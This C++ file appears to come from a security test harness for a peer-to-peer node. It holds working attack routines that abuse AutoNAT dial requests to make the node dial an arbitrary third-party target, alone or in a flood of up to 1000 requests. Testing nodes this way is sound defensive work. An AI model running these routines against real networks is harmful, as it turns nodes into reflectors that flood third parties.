// Section 1.4: AutoNAT requests that would make the node dial somebody else.
#include <algorithm>
#include <stdexcept>

#include "attack.hpp"
#include "codec/varint.hpp"
#include "p2p/protocols/autonat/autonat_server.hpp"
#include "p2p/upgrade/multistream.hpp"

namespace oc::hostile {
namespace {

constexpr std::size_t kMostRequests = 1000;
// Longer than the node waits between the last byte of data and the dial, and than it then dials.
constexpr Duration kOutcomeWithin = std::chrono::seconds(14);
constexpr Duration kNothingFor = std::chrono::seconds(5);

Bytes delimited(BytesView message) {
  Bytes out;
  codec::put_length_prefixed(out, message);
  return out;
}

// A conversation about one address.
class Talk {
 public:
  Talk(Session& session, const std::string& target) : session_(session) {
    auto address = codec::Multiaddr::parse(target);
    if (!address) throw std::invalid_argument("no such address: " + target);
    const Bytes request = p2p::encode_autonat(p2p::DialRequest{{*address}, 42});
    stream_ = session_.open(p2p::kAutonatDialRequestId, delimited(request));
    read_ = proposal(p2p::kAutonatDialRequestId).size();
  }

  // The node's next message, all of which are short.
  std::optional<p2p::AutonatMessage> next(Duration time) {
    if (!session_.wait_data(stream_, read_ + 1, time)) return std::nullopt;
    const std::size_t size = session_.data(stream_)[read_];
    if (!session_.wait_data(stream_, read_ + 1 + size, time)) return std::nullopt;
    auto message = p2p::decode_autonat(session_.data(stream_).subspan(read_ + 1, size));
    read_ += 1 + size;
    if (!message) return std::nullopt;
    return *std::move(message);
  }

  void pay(std::uint64_t bytes) {
    while (bytes != 0) {
      const std::size_t chunk = std::min<std::uint64_t>(bytes, p2p::kMaxDialDataChunk);
      session_.send_data(stream_, delimited(p2p::encode_autonat(p2p::DialData{chunk})));
      bytes -= chunk;
    }
  }

 private:
  Session& session_;
  std::uint32_t stream_ = 0;
  std::size_t read_ = 0;
};

Json status_of(const std::optional<p2p::AutonatMessage>& message) {
  const auto* response = message ? std::get_if<p2p::DialResponse>(&*message) : nullptr;
  if (response == nullptr) return nullptr;
  return static_cast<std::uint32_t>(response->status);
}

// Asks the node to dial the target, and pays all that it demands or all but a byte.
Json reflector(Visit& visit, const Options& options) {
  auto session = visit.session();
  if (session == nullptr) return report_of(nullptr);
  Talk talk(*session, options.text("target"));
  Json out{{"demanded", nullptr}, {"dial", nullptr}};
  auto message = talk.next(kPatience);
  if (const auto* demand = message ? std::get_if<p2p::DialDataRequest>(&*message) : nullptr) {
    out["demanded"] = demand->bytes;
    const bool all = options.text("pay", "part") == "all";
    talk.pay(demand->bytes - (all ? 0 : 1));
    message = talk.next(all ? kOutcomeWithin : kNothingFor);
  }
  out["status"] = status_of(message);
  const auto* response = message ? std::get_if<p2p::DialResponse>(&*message) : nullptr;
  if (response != nullptr) out["dial"] = static_cast<std::uint32_t>(response->dial);
  return out;
}

// One peer asks again and again.
Json reflector_flood(Visit& visit, const Options& options) {
  auto session = visit.session();
  if (session == nullptr) return report_of(nullptr);
  Json statuses = Json::array();
  for (std::size_t i = options.number("count", 20, kMostRequests); i != 0; --i) {
    Talk talk(*session, options.text("target"));
    statuses.push_back(status_of(talk.next(kPatience)));
  }
  return {{"statuses", statuses}};
}

constexpr Attack kAttacks[] = {
    {"reflector", "--target MULTIADDR --pay part|all", reflector},
    {"reflector-flood", "--target MULTIADDR --count N", reflector_flood},
};

}  // namespace

std::span<const Attack> reflector_attacks() { return kAttacks; }

}  // namespace oc::hostile
